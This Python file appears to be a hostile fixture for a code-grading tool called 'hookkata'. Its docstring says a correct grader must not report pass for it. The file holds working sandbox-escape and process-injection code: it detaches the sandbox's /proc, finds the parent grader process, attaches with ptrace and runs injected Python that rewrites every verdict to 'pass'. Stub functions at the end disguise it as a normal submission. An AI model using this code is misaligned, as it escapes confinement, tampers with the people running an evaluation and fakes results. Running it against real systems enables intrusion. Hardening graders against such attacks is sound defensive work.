"""Sandbox escape then ptrace: inside bubblewrap running as root (CAP_SYS_ADMIN and CAP_SYS_PTRACE kept), lazily unmount the sandbox's /proc to see the host's, find the `hookkata grade` process among our host ancestors, and inject Python into it that makes every verdict pass.
A correct grader must not report pass (learner code must run without capabilities, e.g. as another user, with --cap-drop ALL / a user namespace). Only targets an ancestor whose argv has 'hookkata' and 'grade'."""
import ctypes
import os

_PATCH = r'''
def _hostile_patch():
    import hookkata.grading.files as b
    from hookkata.grading.verdict import Verdict
    def _one(*args, **kwargs):
        ex = next(a for a in args if hasattr(a, "id") and hasattr(a, "title"))
        return Verdict(ex.id, ex.title, "pass")
    def _read(channel, exercises, path, **kwargs):
        return [Verdict(e.id, e.title, "pass") for e in exercises]
    for name, fn in (("_grade_one", _one), ("_read_verdicts", _read)):
        if hasattr(b, name):
            setattr(b, name, fn)
    import hookkata.grading.exercise as x
    x.grade = lambda exercise, answer, **k: Verdict(exercise.id, exercise.title, "pass")
    if hasattr(b, "grade"):
        b.grade = x.grade
_hostile_patch()
'''

_FIELDS = ("r15 r14 r13 r12 rbp rbx r11 r10 r9 r8 rax rcx rdx rsi rdi orig_rax rip cs "
           "eflags rsp ss fs_base gs_base ds es fs gs").split()


class _Regs(ctypes.Structure):
    _fields_ = [(n, ctypes.c_ulonglong) for n in _FIELDS]


_libc = ctypes.CDLL(None, use_errno=True)
_libc.ptrace.restype = ctypes.c_long
_libc.ptrace.argtypes = [ctypes.c_long, ctypes.c_long, ctypes.c_void_p, ctypes.c_void_p]


def _grader():
    try:
        _libc.umount2(b"/proc", 2)  # MNT_DETACH: the host's /proc shows through
    except Exception:
        pass
    try:
        pid = int(os.readlink("/proc/self"))  # our pid as the host sees it
    except (OSError, ValueError):
        pid = os.getpid()
    pid = int(open(f"/proc/{pid}/stat").read().rsplit(")", 1)[1].split()[1])
    for _ in range(10):
        try:
            argv = open(f"/proc/{pid}/cmdline", "rb").read().split(b"\0")
        except OSError:
            return None
        if any(b"hookkata" in a for a in argv) and b"grade" in argv:
            return pid
        pid = int(open(f"/proc/{pid}/stat").read().rsplit(")", 1)[1].split()[1])
        if pid <= 1:
            return None
    return None


def _maps(pid):
    out = []
    for line in open(f"/proc/{pid}/maps"):
        parts = line.split(maxsplit=5)
        if len(parts) == 6:
            lo, hi = (int(x, 16) for x in parts[0].split("-"))
            out.append((lo, hi, int(parts[2], 16), parts[5].strip()))
    return out


def _remote(pid, name):
    here = ctypes.cast(getattr(ctypes.pythonapi, name), ctypes.c_void_p).value
    for lo, hi, off, path in _maps("self"):
        if lo <= here < hi:
            base_here = lo - off
            for lo2, _hi2, off2, path2 in _maps(pid):
                if path2 == path:
                    return (lo2 - off2) + (here - base_here)
    raise LookupError(name)


def _poke(pid, addr, data):
    data = data + b"\0" * (-len(data) % 8)
    for i in range(0, len(data), 8):
        word = int.from_bytes(data[i:i + 8], "little")
        _libc.ptrace(5, pid, ctypes.c_void_p(addr + i), ctypes.c_void_p(word))


def _call(pid, saved, func, arg):
    regs = _Regs.from_buffer_copy(saved)
    top = (saved.rsp - 0x10000) & ~0xF
    _poke(pid, top - 8, (0).to_bytes(8, "little"))  # return address 0: a fault hands control back
    regs.rsp, regs.rip, regs.rdi, regs.rax, regs.orig_rax = top - 8, func, arg, 0, 0xFFFFFFFFFFFFFFFF
    _libc.ptrace(13, pid, None, ctypes.byref(regs))
    _libc.ptrace(7, pid, None, None)  # CONT
    os.waitpid(pid, 0x40000000)
    out = _Regs()
    _libc.ptrace(12, pid, None, ctypes.byref(out))
    return out.rax


def _inject(pid, code):
    if _libc.ptrace(16, pid, None, None) != 0:
        return False
    os.waitpid(pid, 0x40000000)
    saved = _Regs()
    _libc.ptrace(12, pid, None, ctypes.byref(saved))
    try:
        ensure, run, release = (_remote(pid, n) for n in ("PyGILState_Ensure", "PyRun_SimpleString", "PyGILState_Release"))
        text_at = (saved.rsp - 0x4000) & ~0xF
        _poke(pid, text_at, code.encode() + b"\0")
        state = _call(pid, saved, ensure, 0)
        _call(pid, saved, run, text_at)
        _call(pid, saved, release, state)
    finally:
        _libc.ptrace(13, pid, None, ctypes.byref(saved))
        _libc.ptrace(17, pid, None, None)
    return True


_pid = _grader()
if _pid:
    try:
        _inject(_pid, _PATCH)
    except Exception:
        pass


def audit_line(outcome):
    return "not json"


def summarize_session(outcomes, end):
    return {}
